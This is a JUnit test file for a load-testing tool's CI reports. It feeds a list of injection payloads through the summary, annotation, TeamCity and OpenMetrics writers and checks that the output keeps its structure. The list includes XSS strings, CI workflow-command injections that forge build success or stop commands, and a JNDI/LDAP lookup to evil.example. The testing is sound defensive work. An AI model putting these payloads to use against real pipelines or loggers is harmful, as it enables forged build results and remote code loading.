package io.loadline.ci;

import static org.assertj.core.api.Assertions.assertThat;

import io.loadline.document.ResultDocument;
import io.loadline.json.Json;
import io.loadline.json.JsonValue.JsonString;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What a server, a cluster or a name says changes nothing but the words. */
class HostileTextTest {
  private static final Pattern REFERENCE = Pattern.compile("&#\\d+;");
  private static final Pattern SERVICE_MESSAGE =
      Pattern.compile("##teamcity\\[testMetadata( [a-zA-Z]+='([ -&(-Z\\\\^-{}~]|\\|.)*+')+\\]");

  private static final List<String> HOSTILE =
      List.of(
          "\n\n# A heading\n\n- [x] done",
          "</code></details><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "![x](https://evil.example/x.png) [a](javascript:alert(1))",
          "| a | b |\n|---|---|\n| c | d |",
          "```\n```mermaid\nxychart-beta\n",
          "` `` ``` ````",
          "**bold** __x__ ~~y~~ *z*",
          "@everyone #1 user@example.com https://evil.example www.evil.example",
          "&lt;b&gt; &#60;b&#62; &amp;",
          "$x$ $$y$$ \\(z\\)",
          "<!-- open",
          "%0A::error title=x::y",
          "\r\n::error title=x::y\n::stop-commands::z",
          "::add-mask::PASS",
          ",title=other::x",
          "##[error]x ##vso[task.complete result=Succeeded;]",
          "']\n##teamcity[buildStop comment='x' readdToQueue='true']",
          "|n|r|'|]|0x0027",
          "\" 1\n# EOF\nloadline_gate_passed{gate=\"x",
          "\\\" \\\\ \\n \\",
          "a#b",
          "\u202eevil\u202c \u2066x\u2069 \u200b\ufeff",
          "\u001b[31mred\u001b]8;;https://evil.example\u0007",
          "\u0000\u0001\u007f\u0085",
          "\ud800 \udc00\ud83d",
          "x".repeat(100_000),
          "<b>".repeat(20_000),
          "😀".repeat(5_000),
          "{{7*7}} ${jndi:ldap://evil.example} %s %n {0}");

  static List<String> hostile() {
    return HOSTILE;
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void a_summary_keeps_its_structure(String text) {
    List<String> said = GateSummary.of(saying(text), text);

    List<String> plain = GateSummary.of(saying("x"), "x");
    assertThat(structure(said.get(0))).isEqualTo(structure(plain.get(0)));
    assertThat(structure(said.get(1))).isEqualTo(structure(plain.get(1)));
  }

  /** All that can mean something to Markdown or HTML. */
  private static String structure(String markdown) {
    return REFERENCE
        .matcher(markdown)
        .replaceAll("")
        .replaceAll("[^<>&|*_`~#\\[\\]!@:$\\\\\n]", "");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void an_annotation_is_one_command_on_one_line(String text) {
    String line = GateAnnotation.of(saying(text), "error", text);

    assertThat(line).startsWith("::error title=").doesNotContain("\n", "\r");
    String title = line.substring("::error title=".length(), line.indexOf("::", 2));
    assertThat(title).startsWith("FAIL ").doesNotContain(",", ":");
    assertThat(line.length()).isLessThan(20_000);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void each_service_message_is_one_of_its_grammar(String text) {
    List<String> lines = GateMetadata.of(saying(text));

    assertThat(lines)
        .hasSameSizeAs(GateMetadata.of(saying("x")))
        .allSatisfy(
            line -> {
              assertThat(SERVICE_MESSAGE.matcher(line).matches()).as(line).isTrue();
              assertThat(line.length()).isLessThan(8_000);
            });
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void metrics_keep_to_their_grammar(String text) {
    String metrics = CiReports.openMetrics(saying(text));

    assertThat(OpenMetricsGrammar.read(metrics))
        .hasSameSizeAs(OpenMetricsGrammar.read(CiReports.openMetrics(saying("x"))));
    assertThat(metrics.lines().filter(line -> line.startsWith("loadline_")))
        .allSatisfy(line -> assertThat(line).doesNotContain("#"));
  }

  private static ResultDocument saying(String text) {
    String json = Json.compact(new JsonString(text));
    return Documents.of(
        """
        {"name": %1$s, "gate": %1$s, "verdict": "FAIL", "headline": %1$s, "reason": %1$s,
         "details": [%1$s], "notes": [%1$s], "requests": 3, "started": %1$s,
         "objectives": [{"metric": %1$s, "limit": 1, "bound": "upper", "unit": "", "observed": 2,
           "samples": 3, "verdict": "FAIL", "reason": %1$s}],
         "outcomes": {"success": 1, "server-error": 2},
         "errors": {"server-error": {"first_ms": 1, "sample": %1$s}},
         "overrides": [{"key": "k", "to": %1$s, "source": %1$s, "loosens": true}],
         "target": {"url": %1$s, "after": {"kind": %1$s, "namespace": "a", "name": %1$s,
           "revision": %1$s}},
         "interferences": [{"kind": "x", "second": 1, "what": %1$s}],
         "load": {"kind": "open", "rate": 1, "arrivals": %1$s, "connections": 1, "seed": 1},
         "environment": {"node": %1$s, "java": %1$s}}
        """
            .formatted(json));
  }
}
